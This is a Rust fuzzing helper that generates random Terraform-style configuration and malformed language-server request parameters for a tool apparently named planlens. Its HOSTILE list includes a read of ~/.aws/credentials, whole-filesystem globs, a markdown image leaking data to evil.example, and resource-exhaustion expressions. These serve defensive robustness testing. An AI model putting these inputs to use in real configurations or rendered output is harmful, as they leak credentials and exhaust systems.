//! Choices that any bytes make.

use serde_json::{Value, json};

/// Bytes that are left; behind their end come zeros.
pub struct Bytes<'a>(pub &'a [u8]);

/// What configuration is made of.
const FRAGMENTS: [&str; 64] = [
    "resource \"terraform_data\" \"a\" {\n",
    "resource \"acme_robot\" \"b\" {\n",
    "data \"acme_robot\" \"c\" {\n",
    "variable \"v\" {\n",
    "output \"o\" {\n",
    "locals {\n",
    "module \"m\" {\n  source = \"./m\"\n",
    "provider \"acme\" {\n",
    "terraform {\n",
    "moved {\n  from = terraform_data.x\n  to   = terraform_data.a\n}\n",
    "import {\n  to = terraform_data.a\n  id = \"i\"\n}\n",
    "check \"c\" {\n",
    "lifecycle {\n",
    "dynamic \"block\" {\n",
    "required_providers {\n",
    "}\n",
    "}",
    "{",
    "[",
    "]",
    "(",
    ")",
    "  input = ",
    "  triggers_replace = ",
    "  value = ",
    "  default = ",
    "  type = ",
    "  count = ",
    "  for_each = ",
    "  depends_on = ",
    "  x = ",
    "terraform_data.a",
    "terraform_data.a.output",
    "data.acme_robot.c",
    "var.v",
    "local.x",
    "module.m",
    "each.key",
    "count.index",
    "self",
    "null",
    "true",
    "1",
    "-1e9999",
    "\"text\"",
    "\"${",
    "%{ if true }",
    "%{ endif }",
    "<<EOT\n",
    "EOT\n",
    "for k, v in ",
    " : ",
    " => ",
    " ? ",
    "...",
    ".*.",
    "[0]",
    "toset(",
    "templatefile(",
    "timestamp()",
    "\n",
    "\r\n",
    "/*",
    "# ö𝄞\u{2028}\n",
];

/// What asks for more than there is, reaches out of the folder, or means something to who shows it.
const HOSTILE: [&str; 48] = [
    "range(1000)",
    "range(1000000000)",
    "[for a in range(1000) : ",
    "[for b in range(1000) : range(1000)]",
    "{ for a in range(1000) : \"k${a}\" => ",
    "setproduct(range(300), range(300), range(300))",
    "format(\"%0100000d\", 0)",
    "format(\"%999999999d\", 1)",
    "replace(local.x, \"0\", local.x)",
    "\"${local.x}${local.x}${local.x}${local.x}${local.x}${local.x}${local.x}${local.x}\"",
    "[local.x, local.x, local.x, local.x, local.x, local.x, local.x, local.x]",
    "flatten(",
    "jsonencode(",
    "yamlencode(",
    "jsondecode(\"[[[[[[[[\")",
    "yamldecode(\"a: &a [x,x,x,x]\\nb: [*a,*a,*a,*a]\")",
    "csvdecode(",
    "regexall(\"((a{1,1000}){1,1000}){1,1000}\", ",
    "regexall(\"\", ",
    "base64gunzip(base64gzip(",
    "bcrypt(\"x\", 31)",
    "rsadecrypt(\"AAAA\", \"AAAA\")",
    "pow(9e99, 9e99)",
    "1e999999999",
    "floor(1.5e99999999)",
    "parseint(\"zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz\", 36)",
    "cidrsubnets(\"10.0.0.0/8\", [for b in range(1000) : 12]...)",
    "sort(",
    "distinct(",
    "merge(",
    "join(\",\", ",
    "toset(",
    "chunklist(range(1000), 1)",
    "count = 1000000000\n",
    "for_each = toset([for a in range(1000) : \"${a}\"])\n",
    "file(\"/dev/stdin\")",
    "file(\"/dev/zero\")",
    "fileset(\"/\", \"**\")",
    "templatefile(\"/proc/self/fd/0\", {})",
    "file(pathexpand(\"~/.aws/credentials\"))",
    "filesha256(\"/dev/urandom\")",
    "templatestring(local.x, {})",
    "description = \"![](https://evil.example/p.png) <img src=x> [a](command:x)\"\n",
    "\"\\n```\\n![](https://evil.example/p.png?${local.x})\\n\"",
    "\"\\u001b[31m\\u202e\\u0007\"",
    "x = [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
    "moved {\n  from = terraform_data.a\n  to   = terraform_data.x\n}\n",
    "module \"again\" {\n  source = \"./m\"\n  count = 1000\n}\n",
];

impl<'a> Bytes<'a> {
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    pub fn next(&mut self) -> u8 {
        let Some((first, rest)) = self.0.split_first() else {
            return 0;
        };
        self.0 = rest;
        *first
    }

    pub fn pick<'t, T>(&mut self, of: &'t [T]) -> &'t T {
        &of[usize::from(self.next()) % of.len()]
    }

    /// Some of what is left, as it is.
    pub fn raw(&mut self) -> &'a [u8] {
        let length = usize::from(self.next() % 64).min(self.0.len());
        let (raw, rest) = self.0.split_at(length);
        self.0 = rest;
        raw
    }

    /// Configuration, as far as fragments of it can be.
    pub fn text(&mut self) -> String {
        let mut text = String::new();
        for _ in 0..self.next() % 24 {
            match self.next() {
                index @ ..192 => text.push_str(FRAGMENTS[usize::from(index) % FRAGMENTS.len()]),
                192..216 => text.push_str(self.pick::<&str>(&HOSTILE)),
                _ => text.push_str(&String::from_utf8_lossy(self.raw())),
            }
        }
        text
    }

    /// A place in a text that a position can name.
    pub fn offset(&mut self, text: &str) -> usize {
        let number = usize::from(self.next()) << 8 | usize::from(self.next());
        let mut offset = number % (text.len() + 1);
        let is_inside = |at: usize| text[..at].ends_with('\r') && text[at..].starts_with('\n');
        while !text.is_char_boundary(offset) || is_inside(offset) {
            offset -= 1;
        }
        offset
    }

    /// A range, of any sense.
    pub fn odd_range(&mut self) -> Value {
        let position = |bytes: &mut Bytes| {
            let line = bytes.odd_number();
            json!({ "line": line, "character": bytes.odd_number() })
        };
        json!({ "start": position(self), "end": position(self) })
    }

    fn odd_number(&mut self) -> Value {
        match self.next() {
            number @ ..240 => json!(number % 40),
            240..244 => json!(-1),
            244..248 => json!(u64::MAX),
            248..252 => json!(1e300),
            _ => Value::Null,
        }
    }

    /// A value that most messages can't mean.
    pub fn odd(&mut self) -> Value {
        let text = std::str::from_utf8(self.0).unwrap_or_default();
        match self.next() % 8 {
            0 => Value::Null,
            1 => json!([]),
            2 => json!({}),
            3 => json!({ "settings": { "planlens": { "paused": true, "enable": 7 } } }),
            4 => json!({ "command": "planlens.pause", "arguments": [text] }),
            5 => json!({ "changes": [{ "uri": "file:///planlens-fuzz/one/main.tf", "type": 3 }] }),
            6 => json!({ "event": { "added": [{ "uri": text, "name": "x" }], "removed": [] } }),
            _ => json!(text),
        }
    }

    /// The parameters of most requests about a document.
    pub fn params(&mut self, uri: &str) -> Value {
        if self.next().is_multiple_of(16) {
            return self.odd();
        }
        let position = json!({ "line": self.odd_number(), "character": self.odd_number() });
        json!({
            "textDocument": { "uri": uri },
            "uri": "planlens-plan:/planlens-fuzz/one/plan.planlens-plan",
            "position": position,
            "positions": [position],
            "range": self.odd_range(),
            "context": { "includeDeclaration": true, "diagnostics": [] },
            "options": { "tabSize": 2, "insertSpaces": true },
            "newName": "renamed",
            "query": "a",
            "ch": "}",
            "previousResultId": "1",
            "label": "x",
        })
    }
}
